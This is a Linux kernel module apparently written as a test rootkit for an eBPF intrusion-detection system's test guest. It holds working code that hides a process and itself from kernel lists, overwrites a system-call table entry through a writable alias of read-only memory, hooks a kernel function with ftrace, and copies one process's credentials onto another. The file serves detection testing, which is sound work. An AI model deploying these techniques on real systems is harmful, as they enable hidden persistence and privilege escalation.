// SPDX-License-Identifier: GPL-2.0
/*
 * ebpfmon_rk: a test rootkit for the ebpfmon test guest (Debian 6.1). Each module parameter
 * turns on one classic kernel rootkit technique, so that the IDS's cross-view rules have a
 * real anomaly to find:
 *
 *   hide_pid=N            unlink task N from the task list (it stays in the pid IDR, running;
 *                         it must not exit before the module is unloaded)
 *   hide_self=1           unlink this module from the module list (its kobject under
 *                         /sys/module and its mod_tree entry stay)
 *   syscall_slot=N        point sys_call_table[N] at a function of this module
 *   ftrace_fn=NAME        an ftrace_ops filtered on kernel function NAME, callback here
 *   steal_cred_from=A steal_cred_to=B
 *                         task B's cred and real_cred become task A's (shared, referenced)
 *
 * The symbols it needs and the kernel does not export (kallsyms_lookup_name, tasklist_lock,
 * module_mutex, sys_call_table) are found through a kprobe on kallsyms_lookup_name. Everything
 * but hide_self and the stolen cred is undone on unload (a hidden module cannot be unloaded).
 */

#define pr_fmt(fmt) KBUILD_MODNAME ": " fmt

#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/kprobes.h>
#include <linux/module.h>
#include <linux/mutex.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched/signal.h>
#include <linux/sched/task.h>
#include <linux/vmalloc.h>

static int hide_pid;
static bool hide_self;
static int syscall_slot = -1;
static char *ftrace_fn;
static int steal_cred_from;
static int steal_cred_to;
module_param(hide_pid, int, 0444);
module_param(hide_self, bool, 0444);
module_param(syscall_slot, int, 0444);
module_param(ftrace_fn, charp, 0444);
module_param(steal_cred_from, int, 0444);
module_param(steal_cred_to, int, 0444);
MODULE_PARM_DESC(hide_pid, "Unlink this pid's task from the task list");
MODULE_PARM_DESC(hide_self, "Unlink this module from the module list");
MODULE_PARM_DESC(syscall_slot, "Overwrite this sys_call_table slot");
MODULE_PARM_DESC(ftrace_fn, "Register an ftrace_ops filtered on this kernel function");
MODULE_PARM_DESC(steal_cred_from, "Pid whose cred is shared");
MODULE_PARM_DESC(steal_cred_to, "Pid that gets the cred of steal_cred_from");

typedef unsigned long (*lookup_fn)(const char *name);
static lookup_fn lookup;

static struct task_struct *hidden_task;
static rwlock_t *tasklist;

static unsigned long *syscall_table;
static unsigned long saved_syscall;
static unsigned long ftrace_calls;
static bool ftrace_on;

static int find_lookup(void)
{
	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
	int err = register_kprobe(&kp);

	if (err)
		return err;
	lookup = (lookup_fn)kp.addr;
	unregister_kprobe(&kp);
	return lookup ? 0 : -ENOENT;
}

static void *symbol(const char *name)
{
	void *at = (void *)lookup(name);

	if (!at)
		pr_err("cannot find symbol \"%s\"\n", name);
	return at;
}

static struct task_struct *task_of(int nr)
{
	struct task_struct *task;

	rcu_read_lock();
	task = pid_task(find_vpid(nr), PIDTYPE_PID);
	if (task)
		get_task_struct(task);
	rcu_read_unlock();
	if (!task)
		pr_err("no task with pid %d\n", nr);
	return task;
}

static int hide_task(void)
{
	tasklist = symbol("tasklist_lock");
	if (!tasklist)
		return -ENOENT;
	hidden_task = task_of(hide_pid);
	if (!hidden_task)
		return -ESRCH;
	/*
	 * As the kernel unhashes an exiting task: its neighbours forget it, its own prev is
	 * poisoned. It must not exit while hidden (list debugging would stop the kernel there).
	 */
	write_lock_irq(tasklist);
	list_del_rcu(&hidden_task->tasks);
	write_unlock_irq(tasklist);
	return 0;
}

static void unhide_task(void)
{
	if (!hidden_task)
		return;
	write_lock_irq(tasklist);
	if (pid_alive(hidden_task))
		list_add_tail_rcu(&hidden_task->tasks, &init_task.tasks);
	write_unlock_irq(tasklist);
	put_task_struct(hidden_task);
	hidden_task = NULL;
}

static long rk_syscall(const struct pt_regs *regs)
{
	return -ENOSYS;
}

/* Writes a word of read-only kernel data through a temporary writable alias of its page. */
static int poke_word(unsigned long *at, unsigned long value)
{
	struct page *page = virt_to_page(at);
	void *alias = vmap(&page, 1, VM_MAP, PAGE_KERNEL);

	if (!alias)
		return -ENOMEM;
	WRITE_ONCE(*(unsigned long *)(alias + offset_in_page(at)), value);
	vunmap(alias);
	return 0;
}

static int hook_syscall(void)
{
	int err;

	if (syscall_slot >= NR_syscalls) {
		pr_err("syscall_slot %d is not below %d\n", syscall_slot, NR_syscalls);
		return -EINVAL;
	}
	syscall_table = symbol("sys_call_table");
	if (!syscall_table)
		return -ENOENT;
	saved_syscall = READ_ONCE(syscall_table[syscall_slot]);
	err = poke_word(&syscall_table[syscall_slot], (unsigned long)rk_syscall);
	if (err)
		syscall_table = NULL;
	return err;
}

static void unhook_syscall(void)
{
	if (syscall_table && READ_ONCE(syscall_table[syscall_slot]) == (unsigned long)rk_syscall)
		poke_word(&syscall_table[syscall_slot], saved_syscall);
	syscall_table = NULL;
}

static void notrace rk_ftrace(unsigned long ip, unsigned long parent_ip,
			      struct ftrace_ops *op, struct ftrace_regs *fregs)
{
	WRITE_ONCE(ftrace_calls, READ_ONCE(ftrace_calls) + 1);
}

static struct ftrace_ops rk_ops = {
	.func = rk_ftrace,
	.flags = FTRACE_OPS_FL_RECURSION,
};

static int hook_ftrace(void)
{
	int err = ftrace_set_filter(&rk_ops, ftrace_fn, strlen(ftrace_fn), 1);

	if (!err)
		err = register_ftrace_function(&rk_ops);
	if (err) {
		pr_err("cannot hook \"%s\" with ftrace (%d)\n", ftrace_fn, err);
		ftrace_free_filter(&rk_ops);
	}
	ftrace_on = !err;
	return err;
}

static void unhook_ftrace(void)
{
	if (!ftrace_on)
		return;
	unregister_ftrace_function(&rk_ops);
	ftrace_free_filter(&rk_ops);
	ftrace_on = false;
}

static int steal_cred(void)
{
	struct task_struct *from = task_of(steal_cred_from);
	struct task_struct *to = from ? task_of(steal_cred_to) : NULL;
	const struct cred *cred, *old_cred, *old_real;

	if (!to) {
		if (from)
			put_task_struct(from);
		return -ESRCH;
	}
	cred = get_task_cred(from);
	task_lock(to);
	old_real = rcu_dereference_protected(to->real_cred, 1);
	old_cred = rcu_dereference_protected(to->cred, 1);
	rcu_assign_pointer(to->real_cred, cred);
	rcu_assign_pointer(to->cred, get_cred(cred));
	task_unlock(to);
	put_cred(old_real);
	put_cred(old_cred);
	put_task_struct(to);
	put_task_struct(from);
	return 0;
}

static void unhide_all(void)
{
	unhook_ftrace();
	unhook_syscall();
	unhide_task();
}

static int hide_module(void)
{
	struct mutex *modules_lock = symbol("module_mutex");

	if (!modules_lock)
		return -ENOENT;
	mutex_lock(modules_lock);
	list_del_rcu(&THIS_MODULE->list);
	mutex_unlock(modules_lock);
	return 0;
}

static int __init rk_init(void)
{
	int err = find_lookup();

	if (!err && hide_pid > 0)
		err = hide_task();
	if (!err && syscall_slot >= 0)
		err = hook_syscall();
	if (!err && ftrace_fn && *ftrace_fn)
		err = hook_ftrace();
	if (!err && steal_cred_from > 0 && steal_cred_to > 0)
		err = steal_cred();
	if (!err && hide_self)
		err = hide_module();
	if (err) {
		pr_err("cannot load (%d): undoing what was done\n", err);
		unhide_all();
		return err;
	}
	pr_info("loaded (hide_pid=%d hide_self=%d syscall_slot=%d ftrace_fn=%s cred %d->%d)\n",
		hide_pid, hide_self, syscall_slot, ftrace_fn ?: "", steal_cred_from, steal_cred_to);
	return 0;
}

static void __exit rk_exit(void)
{
	unhide_all();
	pr_info("unloaded after %lu traced calls\n", READ_ONCE(ftrace_calls));
}

module_init(rk_init);
module_exit(rk_exit);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("ebpfmon's test rootkit: hides a task and itself, hooks a syscall slot and ftrace, shares a cred");
